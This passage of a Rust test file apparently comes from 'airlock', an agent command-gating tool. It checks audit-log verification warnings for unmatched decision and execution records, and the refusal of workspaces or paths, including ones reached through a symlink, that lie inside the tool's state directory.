    let dir = tmp.path().join("audit");
    let log = airlock_core::audit::AuditLog::open(&dir, Default::default()).unwrap();
    log.append(decision.clone()).unwrap();
    let report = verify(&dir).unwrap();
    assert_eq!(report.warnings.len(), 1, "{:?}", report.warnings);
    assert!(
        report.warnings[0].contains("1 run decision(s) have no execution record: a1"),
        "{:?}",
        report.warnings
    );
    log.append(execution).unwrap();
    assert_eq!(verify(&dir).unwrap().warnings, Vec::<String>::new());
}

/// Finding 1 of the audit review: an execution record whose decision record
/// was cut out of the log (and the chain rebuilt) is named by `verify`.
#[test]
fn verify_warns_of_an_execution_record_with_no_decision_record() {
    let f = fixture();
    assert_eq!(
        f.run("echo hi", RunOptions::default()).status,
        RunStatus::Ran
    );
    let records = read_all(&f.state.join("audit")).unwrap();
    let execution = records
        .iter()
        .find(|r| matches!(&r.event, Event::Execution(_)))
        .unwrap()
        .event
        .clone();
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("audit");
    let log = airlock_core::audit::AuditLog::open(&dir, Default::default()).unwrap();
    log.append(execution).unwrap();
    let report = verify(&dir).unwrap();
    assert_eq!(report.warnings.len(), 1, "{:?}", report.warnings);
    assert!(
        report.warnings[0]
            .contains("1 execution record(s) have no decision record before them: a1"),
        "{:?}",
        report.warnings
    );
    // The whole log, decision then execution, has no warning.
    assert_eq!(
        verify(&f.state.join("audit")).unwrap().warnings,
        Vec::<String>::new()
    );
}

/// Finding 1 of the audit review: a workspace that is the state directory
/// or lies inside it, or a read or write path inside it, is refused before
/// anything is judged, recorded or run.
#[test]
fn a_workspace_or_path_inside_the_state_dir_is_refused() {
    let f = fixture();
    // Put a record in the log first, so that the audit directory exists.
    assert_eq!(
        f.run("echo hi", RunOptions::default()).status,
        RunStatus::Ran
    );
    let before = read_all(&f.state.join("audit")).unwrap().len();
    let audit = f.state.join("audit");
    let link = f.outside.join("state-link");
    std::os::unix::fs::symlink(&f.state, &link).unwrap();
    let cases: Vec<(String, String)> = vec![
        (
            format!("[workspace]\nroot = \"{}\"\n[commands]\nallow = [\"echo\"]\n", audit.display()),
            "the workspace".into(),
        ),
        (
            format!("[workspace]\nroot = \"{}\"\n[commands]\nallow = [\"echo\"]\n", f.state.display()),
            "is airlock's state directory".into(),
        ),
        // Through a symlink: refused once resolved.
        (
            format!(
                "[workspace]\nroot = \"{}\"\n[commands]\nallow = [\"echo\"]\n",
                link.join("audit").display()
            ),
            "lies inside airlock's state directory".into(),
        ),
        (
            format!(
                "[workspace]\nroot = \"{}\"\n[commands]\nallow = [\"echo\"]\n[filesystem]\nwrite = [\"{}\"]\n",
                f.workspace.display(),
                f.state.join("approvals").display()
            ),
            "filesystem.write path".into(),
        ),
        (
            format!(
                "[workspace]\nroot = \"{}\"\n[commands]\nallow = [\"echo\"]\n[filesystem]\nread = [\"{}\"]\n",
                f.workspace.display(),
                audit.display()
            ),
            "filesystem.read path".into(),
        ),
    ];
    for (text, says) in cases {
        let policy = policy_from(&text, &f.workspace);
        let err = f
            .engine
            .run(
                &Caller::token("agent-1"),
                &policy,
                &f.request("echo hi"),
                RunOptions::default(),
                &mut Discard,
            )
            .unwrap_err();
        let msg = err.to_string();
        assert!(
            matches!(err, airlock_core::EngineError::StateDirExposed(_)),
            "{msg}"
        );
        assert!(msg.contains(&says), "{says}: {msg}");
        assert!(
            msg.contains("could rewrite, the audit log, approvals and grants"),
            "{msg}"
        );
        assert!(msg.contains("set AIRLOCK_STATE_DIR"), "{msg}");
    }
    assert_eq!(f.runs(), 1, "nothing more ran");
    assert_eq!(read_all(&f.state.join("audit")).unwrap().len(), before);
}
